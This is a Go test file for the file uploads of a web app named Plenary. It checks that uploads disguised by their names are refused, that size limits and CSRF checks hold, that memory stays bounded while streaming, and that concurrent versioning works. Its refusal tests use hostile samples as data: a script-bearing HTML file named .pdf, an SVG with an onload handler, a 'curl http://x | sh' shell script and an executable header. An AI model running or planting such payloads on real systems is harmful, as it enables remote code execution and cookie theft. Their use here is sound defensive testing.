package web_test

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"runtime"
	"runtime/metrics"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/kncu/plenary/internal/seed"
	"github.com/kncu/plenary/internal/web"
)

// fileRows counts the rows an upload writes: files, their chunks, their audit rows.
func fileRows(t *testing.T, app *testApp) [3]int {
	t.Helper()
	return [3]int{app.count("files", "TRUE"), app.count("file_chunks", "TRUE"), app.count("audit_log", "action = 'upload_file'")}
}

// wantNoNewFiles fails the test unless no file, chunk or upload audit row was stored
// since before was counted.
func wantNoNewFiles(t *testing.T, app *testApp, before [3]int) {
	t.Helper()
	if after := fileRows(t, app); after != before {
		t.Errorf("files, chunks and upload audit rows: %v, want %v as before", after, before)
	}
}

// TestFileRefusals: a file is judged by its content, whatever its name, and one Plenary
// does not keep is refused with a message on the file field, in the person's language,
// with nothing stored; so is one past the size limit, refused as its bytes pass it.
func TestFileRefusals(t *testing.T) {
	t.Parallel()
	const limit = 1 << 20
	app := newApp(t, func(c *web.Config) { c.MaxFileSize = limit })
	path := app.moeConsultation()
	before := fileRows(t, app)
	big := append(seed.MinimalPDF("big"), bytes.Repeat([]byte("0123456789abcdef"), limit/16)...)
	tests := []struct {
		name, file string
		data       []byte
		lang       string
		want       string
	}{
		{"HTMLNamedPDF", "회신.pdf", []byte("<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"), "en", en.T("files.error_type")},
		{"SVG", "chart.png", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), "ko", catalog.For("ko").T("files.error_type")},
		{"Script", "notes.txt", []byte("#!/bin/sh\ncurl http://x | sh\n"), "en", en.T("files.error_type")},
		{"Executable", "answer.pdf", append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00"), make([]byte, 500)...), "en", en.T("files.error_type")},
		{"Empty", "empty.pdf", nil, "en", en.T("files.error_empty")},
		{"TooLarge", "큰 파일.pdf", big, "en", en.T("files.error_too_large", "MaxSize", "1 MB")},
		{"TooLargeKorean", "큰 파일.pdf", big, "ko", catalog.For("ko").T("files.error_too_large", "MaxSize", "1 MB")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := app.client()
			c.header.Set("Accept-Language", tt.lang)
			c.login(moeEmail)
			c.get(path)
			resp, body := c.uploadFile(path+"/files", nil, tt.file, tt.data)
			if got, want := resp.StatusCode, http.StatusUnprocessableEntity; got != want {
				t.Errorf("status %d, want %d", got, want)
			}
			if got := fieldErrors(body)["file"]; got != tt.want {
				t.Errorf("file error %q, want %q", got, tt.want)
			}
		})
	}
	t.Run("NoFile", func(t *testing.T) {
		c := app.client()
		c.login(moeEmail)
		c.get(path)
		resp, body := c.uploadFile(path+"/files", nil, "", nil)
		if got, want := resp.StatusCode, http.StatusUnprocessableEntity; got != want {
			t.Errorf("status %d, want %d", got, want)
		}
		if got, want := fieldErrors(body)["file"], en.T("files.error_missing"); got != want {
			t.Errorf("file error %q, want %q", got, want)
		}
	})
	t.Run("ErrForged", func(t *testing.T) {
		c := app.client()
		c.login(moeEmail)
		c.get(path)
		c.csrf = "s.forged"
		resp, _ := c.uploadFile(path+"/files", nil, "a.pdf", seed.MinimalPDF("a"))
		if got, want := resp.StatusCode, http.StatusForbidden; got != want {
			t.Errorf("status %d, want %d", got, want)
		}
	})
	wantNoNewFiles(t, app, before)
}

// TestFileUploadMemory: an upload is read as it arrives, never held whole. A 30 MB file is
// sent to a real server over a socket while the live heap is sampled: it grows by far
// less than the file, whether the file is refused past the 25 MB limit (and nothing is
// stored) or kept under a larger one and downloaded again. This is a bound on memory,
// not on time. The test does not run in parallel, so the heap is the upload's.
func TestFileUploadMemory(t *testing.T) {
	const size = 30 << 20
	app := newApp(t)
	roomy := newAppOn(t, app.DB, func(c *web.Config) { c.MaxFileSize = 32 << 20 })
	path := app.moeConsultation()
	before := fileRows(t, app)

	for _, tt := range []struct {
		name  string
		app   *testApp
		limit int64
	}{{"Refused", app, 25 << 20}, {"Kept", roomy, 32 << 20}} {
		t.Run(tt.name, func(t *testing.T) {
			addr := listen(t, tt.app)
			c := tt.app.client()
			c.login(moeEmail)
			c.get(path)
			resp, peak := sendLarge(t, c, "http://"+addr+path+"/files", size)
			t.Logf("a %d MB upload: live heap grew by at most %.1f MB", size>>20, float64(peak)/(1<<20))
			// Half the file: what a chunk costs on its way to PostgreSQL (the chunk, its hex
			// in the statement, the driver's buffer) is a few megabytes, 2–4 MB on a quiet
			// machine. On a loaded one a collection takes longer, and the chunks allocated
			// while it marks count as live: up to 13.6 MB was seen. A body held whole is the
			// whole file and more (41 MB when tried), far above this bound.
			if peak > size/2 {
				t.Errorf("the live heap grew by %.1f MB during a %d MB upload: it was held whole", float64(peak)/(1<<20), size>>20)
			}
			if tt.name == "Refused" {
				if got, want := resp.StatusCode, http.StatusUnprocessableEntity; got != want {
					t.Errorf("status %d, want %d", got, want)
				}
				wantNoNewFiles(t, app, before)
				return
			}
			if got, want := resp.StatusCode, http.StatusSeeOther; got != want {
				t.Fatalf("status %d, want %d", got, want)
			}
			var stored int64
			if err := app.DB.NewRaw("SELECT size FROM files WHERE name = 'big.pdf'").Scan(t.Context(), &stored); err != nil || stored != size {
				t.Fatalf("stored %d bytes (%v), want %d", stored, err, size)
			}
		})
	}
}

// listen serves app on a loopback port and returns its address.
func listen(t *testing.T, app *testApp) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go app.H.App().Listener(ln)
	return ln.Addr().String()
}

// pdfStream is a PDF of n bytes, made as it is read.
type pdfStream struct{ n, off int }

func (s *pdfStream) Read(p []byte) (int, error) {
	head := []byte("%PDF-1.4\n")
	if s.off >= s.n {
		return 0, io.EOF
	}
	k := min(len(p), s.n-s.off)
	for i := range k {
		if j := s.off + i; j < len(head) {
			p[i] = head[j]
		} else {
			p[i] = byte('a' + j%26)
		}
	}
	s.off += k
	return k, nil
}

// sendLarge posts a file of size bytes as c's upload form, streamed with its length
// given as a browser gives it, and returns the answer and how far the live heap grew
// above where it stood before, as collections find it every few milliseconds.
func sendLarge(t *testing.T, c *client, target string, size int) (*http.Response, uint64) {
	t.Helper()
	const boundary = "plenaryboundary7MA4YWxkTrZu0gW"
	head := fmt.Sprintf("--%s\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\n%s\r\n"+
		"--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.pdf\"\r\nContent-Type: application/pdf\r\n\r\n",
		boundary, c.csrf, boundary)
	tail := "\r\n--" + boundary + "--\r\n"
	body := io.MultiReader(strings.NewReader(head), &pdfStream{n: size}, strings.NewReader(tail))
	req, err := http.NewRequest(http.MethodPost, target, body)
	if err != nil {
		t.Fatal(err)
	}
	req.ContentLength = int64(len(head) + size + len(tail))
	req.Header.Set("Content-Type", "multipart/form-data; boundary="+boundary)
	for name, value := range c.jar {
		req.AddCookie(&http.Cookie{Name: name, Value: value})
	}

	// The live heap as the last collection's marking found it: what is reachable, without
	// what was allocated since, so that garbage made while a collection runs is not
	// taken for memory held.
	live := func() uint64 {
		runtime.GC()
		m := []metrics.Sample{{Name: "/gc/heap/live:bytes"}}
		metrics.Read(m)
		return m[0].Value.Uint64()
	}
	base := live()
	var peak atomic.Uint64
	done := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			select {
			case <-done:
				return
			case <-time.After(5 * time.Millisecond):
			}
			if l := live(); l > base && l-base > peak.Load() {
				peak.Store(l - base)
			}
		}
	}()
	client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := client.Do(req)
	close(done)
	wg.Wait()
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp, peak.Load()
}

// TestConcurrentUploads: files and new versions uploaded at once are all kept, each
// with its own bytes, and the versions of one file number on without a gap or a repeat.
func TestConcurrentUploads(t *testing.T) {
	t.Parallel()
	app := newApp(t)
	path := app.moeConsultation()
	uploads := app.count("audit_log", "action = 'upload_file'")
	const n = 6
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c := app.client()
			c.login(moeEmail)
			c.get(path)
			resp, body := c.uploadFile(path+"/files", nil, fmt.Sprintf("회신 %d.pdf", i), seed.MinimalPDF(fmt.Sprint("answer ", i)))
			if resp.StatusCode != http.StatusSeeOther {
				t.Errorf("upload %d: status %d\n%s", i, resp.StatusCode, body)
			}
		}()
	}
	wg.Wait()
	c := app.client()
	c.login(staffEmail)
	_, body := c.get(path)
	links := fileLinks(body)
	for i := range n {
		id, ok := links[fmt.Sprintf("회신 %d.pdf", i)]
		if !ok {
			t.Errorf("file %d is not listed", i)
			continue
		}
		if _, got := c.get("/files/" + id); got != string(seed.MinimalPDF(fmt.Sprint("answer ", i))) {
			t.Errorf("file %d downloads other bytes", i)
		}
	}

	// New versions of the first file, at once.
	first := links["회신 0.pdf"]
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c := app.client()
			c.login(moeEmail)
			c.get(path)
			resp, body := c.uploadFile("/files/"+first+"/versions", nil, fmt.Sprintf("회신 0 v%d.pdf", i), seed.MinimalPDF(fmt.Sprint("v", i)))
			if resp.StatusCode != http.StatusSeeOther {
				t.Errorf("version %d: status %d\n%s", i, resp.StatusCode, body)
			}
		}()
	}
	wg.Wait()
	var versions []int
	if err := app.DB.NewRaw("SELECT version FROM files WHERE series_id = ? ORDER BY version", first).Scan(t.Context(), &versions); err != nil {
		t.Fatal(err)
	}
	if len(versions) != n+1 || versions[0] != 1 || versions[n] != n+1 {
		t.Errorf("versions %v, want 1 to %d", versions, n+1)
	}
	_, body = c.get(path)
	if !strings.Contains(body, en.T("files.earlier")) {
		t.Error("the page does not offer the earlier versions")
	}
	if got := app.count("audit_log", "action = 'upload_file'") - uploads; got != 2*n {
		t.Errorf("%d audit rows of uploads, want %d", got, 2*n)
	}
}
